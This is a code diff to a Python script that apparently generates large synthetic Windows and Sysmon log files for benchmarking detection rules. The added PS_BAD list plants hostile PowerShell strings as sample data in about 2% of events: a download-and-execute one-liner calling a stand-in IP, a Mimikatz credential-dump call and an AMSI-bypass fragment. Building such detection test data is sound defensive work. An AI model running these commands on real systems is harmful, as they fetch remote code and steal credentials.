@@ -5,8 +5,11 @@
 
 writes OUT_DIR/big.audit.log, big.k8s.jsonl, big.syslog and big.evtx.jsonl with N events each
 (default 200000): a realistic mix where most events are benign and about 1% are the behaviours
-the seed rules look for.
+the seed rules look for. It also writes OUT_DIR/big.windows-long.jsonl with N / 20 Windows events
+of long values (PowerShell command lines of up to 3,000 bytes, script blocks of up to 60 KiB),
+for the `long` scenario.
 """
+import base64
 import json
 import os
 import random
@@ -81,6 +84,57 @@ def evtx(rng, n, out):
         out.write(json.dumps(ev, separators=(",", ":")) + "\n")
 
 
+PS_LINES = ["$ErrorActionPreference = 'Stop'", "Import-Module ActiveDirectory",
+            "$users = Get-ADUser -Filter * -Properties LastLogonDate",
+            "foreach ($u in $users) { Write-Output $u.SamAccountName }",
+            "Get-ChildItem -Path $env:ProgramData -Recurse -Filter *.log | Remove-Item -Force",
+            "try { Invoke-RestMethod -Uri https://api.corp.example/v1/health } catch { Write-Warning $_ }",
+            "$cfg = Get-Content -Raw C:\\ProgramData\\App\\config.json | ConvertFrom-Json",
+            "Set-ItemProperty -Path HKCU:\\Software\\App -Name Version -Value $cfg.version",
+            "Start-Process -FilePath msiexec.exe -ArgumentList '/i', 'C:\\Temp\\agent.msi', '/qn' -Wait",
+            "[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($blob))"]
+PS_BAD = ["IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
+          "Invoke-Mimikatz -DumpCreds", "$s = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"]
+
+
+def windows_long(rng, n, out):
+    """Windows events whose values are long: what real PowerShell activity logs."""
+    def system(i, provider, channel, event_id):
+        return {"Provider": {"Name": provider}, "EventID": event_id, "Channel": channel,
+                "Computer": "ws%02d.corp.example" % (i % 50),
+                "TimeCreated": {"SystemTime": "2024-11-14T11:%02d:%02d.%03dZ" % (i // 60 % 60, i % 60, i % 1000)}}
+    for i in range(n):
+        bad = rng.random() < 0.02
+        if rng.random() < 0.15:  # a script block, 2-60 KiB
+            lines, size = [], rng.randint(2048, 61440)
+            while size > 0:
+                line = rng.choice(PS_BAD) if bad and rng.random() < 0.01 else rng.choice(PS_LINES)
+                lines.append(line)
+                size -= len(line) + 2
+            ev = {"Event": {"System": system(i, "Microsoft-Windows-PowerShell",
+                                             "Microsoft-Windows-PowerShell/Operational", 4104),
+                            "EventData": {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "\r\n".join(lines),
+                                          "ScriptBlockId": "%08x-1111-4222-8333-%012x" % (i, i), "Path": ""}}}
+        else:  # a process creation, often PowerShell with an encoded command of 400-3,000 bytes
+            if rng.random() < 0.6:
+                payload = base64.b64encode(rng.randbytes(rng.randint(300, 2250))).decode()
+                image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+                command = "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + payload
+                if bad:
+                    command = "powershell.exe -nop -w hidden -c " + rng.choice(PS_BAD)
+            else:
+                image = "C:\\Windows\\System32\\cmd.exe"
+                command = "cmd.exe /c " + " && ".join("copy /y \\\\fs01\\deploy\\pkg%d.zip C:\\Temp\\" % k
+                                                       for k in range(rng.randint(1, 40)))
+            ev = {"Event": {"System": system(i, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1),
+                            "EventData": {"Image": image, "CommandLine": command, "User": "CORP\\user%d" % (i % 40),
+                                          "ParentImage": "C:\\Windows\\System32\\svchost.exe",
+                                          "ParentCommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
+                                          "CurrentDirectory": "C:\\Windows\\system32\\", "IntegrityLevel": "High",
+                                          "ProcessId": 1000 + i, "ParentProcessId": 600 + i % 50}}}
+        out.write(json.dumps(ev, separators=(",", ":")) + "\n")
+
+
 def main(argv):
     if not argv:
         sys.exit(__doc__)
@@ -91,6 +145,8 @@ def main(argv):
                      ("big.evtx.jsonl", evtx)):
         with open(os.path.join(out_dir, name), "w") as out:
             fn(random.Random(42), n, out)
+    with open(os.path.join(out_dir, "big.windows-long.jsonl"), "w") as out:
+        windows_long(random.Random(42), max(1, n // 20), out)
 
 
 if __name__ == "__main__":
